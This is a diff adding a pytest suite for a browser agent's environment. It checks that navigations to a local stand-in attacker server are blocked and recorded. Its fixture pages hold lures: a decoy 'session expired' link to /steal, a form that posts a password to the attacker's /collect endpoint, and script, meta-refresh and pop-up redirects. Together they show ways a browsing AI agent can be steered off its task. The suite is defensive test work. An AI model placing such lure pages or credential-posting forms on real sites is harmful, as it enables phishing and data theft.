@@ -1,0 +1,291 @@
+"""The browser cannot be steered off its task: pages on the task's server (127.0.0.1) try every
+route to an attacker's server (another port on 127.0.0.1) and the attacker's server counts what
+reaches it. A decoy link, a form posting a password, a script redirect, a meta refresh, a
+`window.open` pop-up, a `target=_blank` link, a pop-up that navigates later and a redirect by
+the task's own server are each blocked before any request leaves the browser, recorded, and
+reported in the step's Execution; navigation on the task's origin still works."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+import pytest
+
+from pixelpilot.actions import Click, OpenApp, Task, Type, Wait
+from pixelpilot.agent import run_episode
+from pixelpilot.env.base import Execution
+from pixelpilot.env.browser.env import BrowserEnv
+from pixelpilot.env.httpserver import LocalServer
+from pixelpilot.errors import ActionError
+from tests.env.browser.support import PagePolicy, locate, open_env, page
+
+pytestmark = pytest.mark.browser
+
+SECRET = "correct-horse-battery-staple-7"
+STYLE = "<style>body{margin:0;font:20px sans-serif} a,button,input{display:block;margin:20px;"
+STYLE += "width:400px;height:60px;font-size:20px}</style>"
+
+
+def pages(evil: str) -> dict[str, str]:
+    """The task server's pages; `evil` is the attacker's base URL."""
+    head = f"<!doctype html><html><head><meta charset='utf-8'>{STYLE}"
+    return {
+        "/decoy.html": f"{head}</head><body><p>Urgent: your session expired.</p>"
+        f"<a id='decoy' href='{evil}/steal?from=decoy'>Click here to continue</a></body>",
+        "/form.html": f"{head}</head><body><form method='post' action='{evil}/collect'>"
+        "<input id='user' name='user'><input id='password' type='password' name='password'>"
+        "<button id='submit'>Sign in</button></form></body>",
+        "/script.html": f"{head}<script>setTimeout(() => location.href = "
+        f"'{evil}/script?auto=1', 50)</script></head><body><p>Loading...</p>"
+        f"<button id='go' onclick=\"location.assign('{evil}/script?click=1')\">Go</button>"
+        "</body>",
+        "/meta.html": f"{head}<meta http-equiv='refresh' content='0;url={evil}/meta'></head>"
+        "<body><p>Redirecting...</p></body>",
+        "/popup.html": f"{head}</head><body>"
+        f"<button id='open' onclick=\"window.open('{evil}/popup')\">Open offer</button>"
+        f"<a id='blank' target='_blank' href='{evil}/blank'>New window</a>"
+        f"<button id='later' onclick=\"const w = window.open(); "
+        f"setTimeout(() => w.location = '{evil}/later', 100)\">Later</button>"
+        "<button id='mine' onclick=\"window.open('/next.html')\">Mine</button></body>",
+        "/links.html": f"{head}</head><body><a id='next' href='/next.html'>Next</a>"
+        "<a id='hop' href='/hop'>Via the task server</a></body>",
+        "/next.html": f"{head}</head><body><p id='here'>Next page</p></body>",
+    }
+
+
+class TaskServer(LocalServer):
+    """Serves `pages`; /go redirects to the attacker and /hop redirects to /go."""
+
+    label = "task server"
+
+    def __init__(self, evil: str) -> None:
+        super().__init__()
+        self.pages, self.evil = pages(evil), evil
+
+    def build(self, address: tuple[str, int]) -> ThreadingHTTPServer:
+        server = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                target = {"/go": server.evil + "/redirected", "/hop": "/go"}.get(self.path)
+                if target is not None:
+                    self.send_response(302)
+                    self.send_header("Location", target)
+                    self.end_headers()
+                    return
+                body = server.pages.get(self.path)
+                self.send_response(200 if body is not None else 404)
+                self.send_header("Content-Type", "text/html; charset=utf-8")
+                self.end_headers()
+                self.wfile.write((body or "not found").encode())
+
+            def log_message(self, format: str, *args: object) -> None:
+                return
+
+        return ThreadingHTTPServer(address, Handler)
+
+
+class AttackerServer(LocalServer):
+    """Answers anything with a page and counts every request it receives."""
+
+    label = "attacker server"
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.requests: list[str] = []
+
+    def build(self, address: tuple[str, int]) -> ThreadingHTTPServer:
+        server = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def answer(self) -> None:
+                server.requests.append(f"{self.command} {self.path}")
+                self.rfile.read(int(self.headers.get("Content-Length") or 0))
+                self.send_response(200)
+                self.send_header("Content-Type", "text/html")
+                self.end_headers()
+                self.wfile.write(b"<h1>attacker</h1>")
+
+            do_GET = do_POST = do_HEAD = answer
+
+            def log_message(self, format: str, *args: object) -> None:
+                return
+
+        return ThreadingHTTPServer(address, Handler)
+
+
+@pytest.fixture(scope="module")
+def attacker() -> Iterator[AttackerServer]:
+    with AttackerServer() as server:
+        yield server
+
+
+@pytest.fixture(scope="module")
+def site(attacker: AttackerServer) -> Iterator[TaskServer]:
+    with TaskServer(attacker.base_url) as server:
+        yield server
+
+
+@pytest.fixture(scope="module")
+def env() -> Iterator[BrowserEnv]:
+    environment = open_env()
+    yield environment
+    environment.close()
+
+
+@pytest.fixture(autouse=True)
+def nothing_reaches_the_attacker(attacker: AttackerServer) -> Iterator[None]:
+    attacker.requests.clear()
+    yield
+    assert attacker.requests == [], "requests reached the attacker's server"
+
+
+def start(env: BrowserEnv, site: TaskServer, path: str) -> str:
+    url = site.base_url + path
+    env.reset(task=Task(goal="stay on task", start_url=url))
+    return url
+
+
+def click(env: BrowserEnv, selector: str) -> Execution:
+    return env.execute(Click(x=(p := locate(env, selector)).x, y=p.y))
+
+
+def only_block(env: BrowserEnv, attacker: AttackerServer, kind: str, path: str) -> str:
+    """The episode's one blocked navigation is `kind` to the attacker's `path`; its line."""
+    blocked = env.blocked_navigations
+    assert [(b.kind, b.url) for b in blocked] == [(kind, attacker.base_url + path)], blocked
+    assert blocked[0].origin == attacker.base_url
+    return blocked[0].describe()
+
+
+def test_a_decoy_link_is_blocked(
+    env: BrowserEnv, site: TaskServer, attacker: AttackerServer
+) -> None:
+    url = start(env, site, "/decoy.html")
+    execution = click(env, "#decoy")
+    line = only_block(env, attacker, "navigation", "/steal")
+    assert line in execution.detail and "?from" not in line
+    assert page(env).url == url
+
+
+def test_a_form_post_with_a_password_is_blocked(
+    env: BrowserEnv, site: TaskServer, attacker: AttackerServer
+) -> None:
+    url = start(env, site, "/form.html")
+    click(env, "#password")
+    env.execute(Type(text=SECRET))
+    execution = click(env, "#submit")
+    line = only_block(env, attacker, "form submission", "/collect")
+    assert "(POST)" in line and line in execution.detail and SECRET not in execution.detail
+    assert page(env).url == url
+    assert page(env).input_value("#password") == SECRET, "the page stayed as it was"
+
+
+def test_script_redirects_are_blocked(
+    env: BrowserEnv, site: TaskServer, attacker: AttackerServer
+) -> None:
+    url = start(env, site, "/script.html")  # redirects itself 50 ms after loading
+    execution = env.execute(Wait(seconds=0.3))
+    only_block(env, attacker, "navigation", "/script")
+    assert "blocked navigation" in execution.detail, "a block between steps is reported next"
+    execution = click(env, "#go")
+    assert [b.kind for b in env.blocked_navigations] == ["navigation"] * 2
+    assert "blocked navigation" in execution.detail
+    assert page(env).url == url
+
+
+def test_a_meta_refresh_is_blocked(
+    env: BrowserEnv, site: TaskServer, attacker: AttackerServer
+) -> None:
+    url = start(env, site, "/meta.html")
+    execution = env.execute(Wait(seconds=0.3))
+    assert only_block(env, attacker, "navigation", "/meta") in execution.detail
+    assert page(env).url == url
+
+
+@pytest.mark.parametrize(("selector", "path"), [("#open", "/popup"), ("#blank", "/blank")])
+def test_a_popup_to_another_origin_is_refused(
+    env: BrowserEnv, site: TaskServer, attacker: AttackerServer, selector: str, path: str
+) -> None:
+    url = start(env, site, "/popup.html")
+    execution = click(env, selector)
+    assert only_block(env, attacker, "pop-up window", path) in execution.detail
+    env.execute(Wait(seconds=0.3))
+    assert page(env).url == url, "the env did not adopt the pop-up"
+    assert env.observe().url == url
+
+
+def test_a_blank_popup_that_navigates_away_later_is_closed(
+    env: BrowserEnv, site: TaskServer, attacker: AttackerServer
+) -> None:
+    url = start(env, site, "/popup.html")
+    click(env, "#later")
+    env.execute(Wait(seconds=0.5))
+    only_block(env, attacker, "pop-up window", "/later")
+    assert page(env).url == url
+    session = env.session
+    assert session is not None
+    assert [p.url for p in page(env).context.pages if not p.is_closed()] == [url]
+
+
+def test_a_redirect_by_the_tasks_own_server_is_blocked(
+    env: BrowserEnv, site: TaskServer, attacker: AttackerServer
+) -> None:
+    url = start(env, site, "/links.html")
+    execution = click(env, "#hop")  # /hop -> /go -> the attacker: two hops on the task server
+    assert only_block(env, attacker, "server redirect", "/redirected") in execution.detail
+    assert page(env).url == url
+
+
+def test_open_app_to_another_origin_is_refused_and_recorded(
+    env: BrowserEnv, site: TaskServer, attacker: AttackerServer
+) -> None:
+    start(env, site, "/links.html")
+    with pytest.raises(ActionError, match="not an allowed origin"):
+        env.execute(OpenApp(name=attacker.base_url + "/opened?token=1"))
+    only_block(env, attacker, "open_app", "/opened")
+
+
+def test_the_tasks_own_origin_still_works(env: BrowserEnv, site: TaskServer) -> None:
+    start(env, site, "/links.html")
+    execution = click(env, "#next")
+    assert page(env).url == site.base_url + "/next.html"
+    assert "blocked" not in execution.detail
+    start(env, site, "/popup.html")
+    click(env, "#mine")
+    env.execute(Wait(seconds=0.3))
+    assert page(env).url == site.base_url + "/next.html", "a same-origin pop-up is adopted"
+    assert env.blocked_navigations == []
+
+
+def test_an_allowed_origin_is_reachable(attacker: AttackerServer, site: TaskServer) -> None:
+    """The control: with the attacker's origin allowed, the same link reaches it, so the
+    counting server does see what the guard lets through."""
+    environment = open_env(allowed_origins=[attacker.base_url])
+    try:
+        start(environment, site, "/decoy.html")
+        click(environment, "#decoy")
+        assert page(environment).url.startswith(attacker.base_url + "/steal")
+        assert environment.blocked_navigations == []
+        assert attacker.requests == ["GET /steal?from=decoy"]
+    finally:
+        environment.close()
+        attacker.requests.clear()
+
+
+def test_an_episode_records_each_blocked_navigation_on_its_step(
+    env: BrowserEnv, site: TaskServer, attacker: AttackerServer
+) -> None:
+    steps = [
+        lambda e, o: Click(x=locate(e, "#open").x, y=locate(e, "#open").y),
+        lambda e, o: Click(x=locate(e, "#blank").x, y=locate(e, "#blank").y),
+        lambda e, o: Wait(seconds=0.1),
+    ]
+    task = Task(goal="stay on task", start_url=site.base_url + "/popup.html")
+    trajectory = run_episode(env, PagePolicy(env, steps), task, max_steps=5)
+    executed = [step.executed or "" for step in trajectory.steps]
+    assert "blocked pop-up window" in executed[0] and "/popup" in executed[0]
+    assert "blocked pop-up window" in executed[1] and "/blank" in executed[1]
+    assert "blocked" not in executed[2]
+    assert len(env.blocked_navigations) == 2
